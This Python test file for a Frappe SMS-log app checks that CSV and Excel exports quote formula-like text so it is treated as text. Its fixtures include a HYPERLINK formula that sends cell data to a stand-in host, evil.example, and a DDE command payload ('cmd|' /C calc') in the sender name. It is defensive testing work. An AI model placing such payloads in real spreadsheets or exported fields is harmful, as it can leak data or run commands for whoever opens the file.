# Copyright (c) 2026, Dafater and contributors
# For license information, please see license.txt

"""CSV and Excel exports of what a caller sent hold text, never a formula (sms_log_app.safe_export),
exported through Desk's own export methods over real HTTP and read back from the file."""

import contextlib
import csv
import io
import json
import time

import frappe
import openpyxl
from frappe.utils import today

from sms_log_app import sending
from sms_log_app.tests.utils import (
	N1,
	GatewayTestCase,
	api_token,
	committed_logs,
	committed_sms_settings,
	delete_logs,
	run_jobs,
	served_site,
)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
# each start a spreadsheet reads as a formula, in a sender name, a message and a number
SENDER = "@SUM(1+1)*cmd|' /C calc'!A0"
MESSAGES = (FORMULA, "+1+1", "-2+3", "\t=1+1", "\r=1+1")
NUMBER = "-1+966500000009"  # not dialable: recorded as Failed, never sent


class TestExportsWriteTextNotFormulas(GatewayTestCase):
	@classmethod
	def setUpClass(cls):
		super().setUpClass()
		resources = contextlib.ExitStack()
		cls.addClassCleanup(resources.close)
		resources.enter_context(committed_sms_settings(cls.gateway))
		cls.tag = frappe.generate_hash(length=10)
		cls.logs = [
			sending.send_and_log([N1, NUMBER], f"{message} {cls.tag}", sender_name=SENDER)
			for message in MESSAGES
		]
		cls.addClassCleanup(delete_logs, name=("in", cls.logs))
		# another DocType's export stays as Frappe writes it
		cls.todo = frappe.get_doc({"doctype": "ToDo", "description": f"=1+1 {cls.tag}"}).insert().name
		cls.addClassCleanup(frappe.db.commit)
		cls.addClassCleanup(frappe.delete_doc, "ToDo", cls.todo, force=True)
		cls.headers = api_token("Administrator")
		frappe.db.commit()
		cls.client = resources.enter_context(served_site())

	def export(self, method, **form):
		response = self.client.request("POST", f"/api/method/{method}", headers=self.headers, data=form)
		self.assertEqual(response.status_code, 200, response.text[:500])
		return response

	def report_builder(self, file_format_type, doctype="SMS Log", fields=None, names=None, **form):
		return self.export(
			"frappe.desk.reportview.export_query",
			doctype=doctype,
			title=doctype,
			file_format_type=file_format_type,
			fields=json.dumps(
				fields
				or [
					"`tabSMS Log`.`name`",
					"`tabSMS Log`.`message`",
					"`tabSMS Log`.`sender_name`",
					"`tabSMS Log`.`noofrequested_sms`",
					"`tabSMS Log Recipient`.`number`",
					"`tabSMS Log Recipient`.`http_status`",
				]
			),
			filters=json.dumps([[doctype, "name", "in", names or self.logs]]),
			order_by=f"`tab{doctype}`.`name` asc",
			**form,
		)

	def summary(self, file_format_type):
		return self.export(
			"frappe.desk.query_report.export_query",
			report_name="SMS Delivery Summary",
			file_format_type=file_format_type,
			filters=json.dumps({"from_date": today(), "to_date": today(), "sender": "@SUM"}),
			visible_idx="[]",
		)

	def assert_text_cells(self, cells: list, raw: str = ""):
		"""Every text that starts like a formula has the quote before it; numbers are numbers."""
		self.assertIn(f"'{FORMULA} {self.tag}", cells)
		self.assertIn(f"'{SENDER}", cells)
		for message in MESSAGES[1:]:
			self.assertIn(f"'{message} {self.tag}", cells)
		for cell in cells:
			if isinstance(cell, str) and cell:
				self.assertNotIn(cell[0], "=+-@\t\r", f"{cell!r} would run as a formula")

	def test_report_builder_csv(self):
		content = self.report_builder("CSV").content.decode()
		rows = list(csv.reader(io.StringIO(content, newline="")))
		cells = [cell for row in rows[1:] for cell in row]
		self.assert_text_cells(cells)
		self.assertIn(f"'{NUMBER}", cells)
		# numbers are written as numbers: unquoted, without the quote
		self.assertEqual(len(rows), 1 + 2 * len(MESSAGES))
		self.assertRegex(content, r',2,"(\+966500000001|\'-1\+966500000009)",(200|0),"Administrator"\r\n')

	def test_report_builder_excel(self):
		workbook = openpyxl.load_workbook(io.BytesIO(self.report_builder("Excel").content))
		rows = list(workbook.active.iter_rows(min_row=2))
		self.assertEqual(len(rows), 2 * len(MESSAGES))
		cells = [cell.value for row in rows for cell in row]
		self.assert_text_cells(cells)
		# Sr, name, message, sender name, requested, number, HTTP status (and the owner, Frappe's)
		for row in rows:
			self.assertEqual([cell.data_type for cell in row[:7]], ["n", "s", "s", "s", "n", "s", "n"])
			self.assertEqual(row[4].value, 2)

	def test_query_report_csv_and_excel(self):
		rows = list(csv.reader(io.StringIO(self.summary("CSV").content.decode(), newline="")))
		header = rows[0]
		senders = [row[header.index("Sender Name")] for row in rows[1:]]
		self.assertEqual(set(senders[:-1]), {f"'{SENDER}"})
		self.assertEqual(senders[-1], "")  # the total

		workbook = openpyxl.load_workbook(io.BytesIO(self.summary("Excel").content))
		rows = list(workbook.active.iter_rows(values_only=True))
		header = list(rows[0])
		for row in rows[1:-1]:  # the last is the total
			self.assertEqual(row[header.index("Sender Name")], f"'{SENDER}")
			self.assertIsInstance(row[header.index("Logs")], int)
		cells = [c for row in workbook.active.iter_rows(min_row=2) for c in row]
		self.assertNotIn("f", {c.data_type for c in cells})

	def test_background_export(self):
		"""Frappe runs a large export as a job and saves its file: the same rule there."""
		started = frappe.utils.now()
		self.report_builder("CSV", export_in_background=1)
		run_jobs(queue="long")
		content = self.exported_file("SMS Log.csv", started)
		rows = list(csv.reader(io.StringIO(content, newline="")))
		self.assert_text_cells([cell for row in rows[1:] for cell in row])

	def exported_file(self, file_name, since) -> str:
		"""The content of the file a background export saved (another worker of the bench may be
		the one that runs it)."""
		deadline = time.monotonic() + 60
		while not (
			name := frappe.db.get_value(
				"File",
				{"file_name": file_name, "attached_to_doctype": "Report", "creation": (">=", since)},
				"name",
			)
		):
			self.assertLess(time.monotonic(), deadline, "the background export saved no file")
			time.sleep(0.5)
			frappe.db.rollback()
		self.addCleanup(frappe.db.commit)
		self.addCleanup(frappe.delete_doc, "File", name, force=True)
		content = frappe.get_doc("File", name).get_content()
		return content.decode() if isinstance(content, bytes) else content

	def test_other_doctypes_export_as_frappe_writes_them(self):
		content = self.report_builder(
			"CSV", doctype="ToDo", fields=["`tabToDo`.`name`", "`tabToDo`.`description`"], names=[self.todo]
		).content.decode()
		self.assertIn(f'"=1+1 {self.tag}"', content)

	def test_what_is_stored_does_not_change(self):
		stored = {log.message for log in committed_logs(name=("in", self.logs))}
		self.assertEqual(stored, {f"{message} {self.tag}" for message in MESSAGES})
